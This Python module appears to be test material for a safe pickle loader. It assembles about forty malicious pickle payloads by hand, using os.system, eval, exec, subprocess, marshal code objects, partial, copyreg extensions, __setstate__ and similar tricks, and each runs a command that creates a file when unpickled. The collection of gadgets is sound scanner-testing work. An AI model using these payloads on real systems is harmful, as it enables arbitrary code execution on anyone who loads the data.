"""Pickles that do something when Python loads them: each creates the file whose path it is made for."""

import marshal
import pickle
import struct
from collections.abc import Callable


def text(words: str) -> bytes:
    return b"X" + struct.pack("<I", len(words.encode())) + words.encode()


def data(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def name(dotted: str) -> bytes:
    module, _, attribute = dotted.rpartition(".")
    return f"c{module}\n{attribute}\n".encode()


def inside(module: str, attributes: str) -> bytes:
    """STACK_GLOBAL, whose second word may have dots from protocol 4 on."""
    return b"\x80\x04" + text(module) + text(attributes) + b"\x93"


def args(*values: bytes) -> bytes:
    return b"(" + b"".join(values) + b"t"


def call(function: bytes | str, *values: bytes) -> bytes:
    return (name(function) if isinstance(function, str) else function) + args(*values) + b"R"


def new(kind: str, *values: bytes) -> bytes:
    return name(kind) + args(*values) + b"\x81"


def items(*values: bytes) -> bytes:
    """APPENDS, to what is on the stack."""
    return b"(" + b"".join(values) + b"e"


def listed(*values: bytes) -> bytes:
    return b"]" + items(*values)


def attribute(key: str, value: bytes) -> bytes:
    """BUILD with a dict of one entry."""
    return b"}" + text(key) + value + b"sb"


def touch(path: str) -> bytes:
    return text(f"touch {path}")


def words(path: str) -> bytes:
    return listed(text("touch"), text(path))


def program(path: str) -> bytes:
    return text(f"open({path!r}, 'w').close()")


def code(path: str) -> bytes:
    return data(marshal.dumps(compile(f"open({path!r}, 'w').close()", "", "exec")))


def got(value: bytes, *names: str) -> bytes:
    """getattr, as often as there are names."""
    for word in names:
        value = call("builtins.getattr", value, text(word))
    return value


SYSTEM, NAMESPACE, NUMBER_119 = name("os.system"), new("argparse.Namespace"), b"\x82\x77"
CLASS_STATE = b"N}" + text("__setstate__") + SYSTEM + b"s\x86b"  # sets an attribute of a class
NUMBERED = call("copyreg.add_extension", text("os"), text("system"), b"K\x77") + b"0"
IMPORTED = call("builtins.__import__", text("os"))
TIMER, FUNCTION, NUMPY_RUNS = name("time.time"), "types.FunctionType", "numpy.testing._private.utils.runstring"

# what a reader should name when it refuses, and for a path the same pickle without protocol and STOP
FORMS: dict[str, tuple[str, Callable[[str], bytes]]] = {
    "call": ("os.system", lambda path: call(SYSTEM, touch(path))),
    "call by its other name": ("posix.system", lambda path: call("posix.system", touch(path))),
    "call by STACK_GLOBAL": ("os.system", lambda path: call(inside("os", "system"), touch(path))),
    "call through another module": ("shutil.os.system", lambda path: call(inside("shutil", "os.system"), touch(path))),
    "call by INST": ("os.system", lambda path: b"(" + touch(path) + b"ios\nsystem\n"),
    "call by OBJ": ("os.system", lambda path: b"(" + SYSTEM + touch(path) + b"o"),
    "call from the memo": ("os.system", lambda path: SYSTEM + b"q\x000h\x00" + args(touch(path)) + b"R"),
    "call that leaves nothing": ("os.system", lambda path: b"}" + call(SYSTEM, touch(path)) + b"0"),
    "eval": ("builtins.eval", lambda path: call("builtins.eval", program(path))),
    "eval of Python 2": ("builtins.eval", lambda path: call("__builtin__.eval", program(path))),
    "exec": ("builtins.exec", lambda path: call("builtins.exec", program(path))),
    "open": ("builtins.open", lambda path: call("builtins.open", text(path), text("w"))),
    "io.open": ("io.open", lambda path: call("io.open", text(path), text("w"))),
    "codecs.open": ("codecs.open", lambda path: call("codecs.open", text(path), text("w"))),
    "__import__": ("builtins.__import__", lambda path: call(got(IMPORTED, "system"), touch(path))),
    "import_module": (
        "importlib.import_module",
        lambda path: call(got(call("importlib.import_module", text("os")), "system"), touch(path)),
    ),
    "getattr": ("builtins.getattr", lambda path: call(got(name("os.path"), "os", "system"), touch(path))),
    "subprocess": ("subprocess.check_call", lambda path: call("subprocess.check_call", words(path))),
    "getoutput": ("subprocess.getoutput", lambda path: call("subprocess.getoutput", touch(path))),
    "commands of Python 2": ("commands.getoutput", lambda path: call("commands.getoutput", touch(path))),
    "spawn": ("os.spawnlp", lambda path: call("os.spawnlp", b"K\0", text("touch"), text("touch"), text(path))),
    "partial": ("functools.partial", lambda path: call(call("functools.partial", SYSTEM, touch(path)))),
    "partial by NEWOBJ": ("functools.partial", lambda path: call(new("functools.partial", SYSTEM, touch(path)))),
    "partial by NEWOBJ_EX": (
        "functools.partial",
        lambda path: call(name("functools.partial") + args(SYSTEM, touch(path)) + b"}\x92"),
    ),
    "methodcaller": (
        "operator.methodcaller",
        lambda path: call(call("operator.methodcaller", text("system"), touch(path)), IMPORTED),
    ),
    "attrgetter": (
        "operator.attrgetter",
        lambda path: call(call(call("operator.attrgetter", text("system")), IMPORTED), touch(path)),
    ),
    "map, no call at all": (
        "builtins.map",
        lambda path: new("builtins.tuple", new("builtins.map", SYSTEM, listed(touch(path)))),
    ),
    "a function's code": (
        "marshal.loads",
        lambda path: call(call(FUNCTION, call("marshal.loads", code(path)), call("builtins.dict"))),
    ),
    "a pickle in a pickle": (
        "pickle.loads",
        lambda path: call("pickle.loads", data(b"\x80\x02" + call(SYSTEM, touch(path)) + b".")),
    ),
    "timeit": ("timeit.timeit", lambda path: call("timeit.timeit", program(path), text(""), TIMER, b"K\x01")),
    "NumPy": ("numpy.testing._private.utils.runstring", lambda path: call(NUMPY_RUNS, program(path), b"}")),
    "a method of a path": (
        "pathlib.Path.touch",
        lambda path: call(inside("pathlib", "Path.touch"), call("pathlib.PosixPath", text(path))),
    ),
    "_reconstructor": (
        "copyreg._reconstructor",
        lambda path: call("copyreg._reconstructor", name("subprocess.Popen"), name("subprocess.Popen"), words(path)),
    ),
    "a number for a function": (
        "copyreg.add_extension",
        lambda path: NUMBERED + call(NUMBER_119, touch(path)),
    ),
    "__setstate__ of an object": (
        "os.system",
        lambda path: NAMESPACE + attribute("__setstate__", SYSTEM) + touch(path) + b"b",
    ),
    "__setstate__ of a class": (
        "optparse.Values",
        lambda path: name("optparse.Values") + CLASS_STATE + b"0" + new("optparse.Values") + touch(path) + b"b",
    ),
    "append": ("os.system", lambda path: NAMESPACE + attribute("append", SYSTEM) + touch(path) + b"a"),
    "extend": (
        "subprocess.check_call",
        lambda path: NAMESPACE + attribute("extend", name("subprocess.check_call")) + items(text("touch"), text(path)),
    ),
    "add": ("os.system", lambda path: NAMESPACE + attribute("add", SYSTEM) + b"(" + touch(path) + b"\x90"),
}


def whole(form: str, path: str) -> bytes:
    """The pickle."""
    return b"\x80\x02" + FORMS[form][1](path) + b"."


def load_all(paths: dict[str, str]) -> None:
    """What a reader without care does, with every form: errors come too late."""
    for form, path in paths.items():
        try:
            pickle.loads(whole(form, path))
        except Exception as error:
            print(form, error)
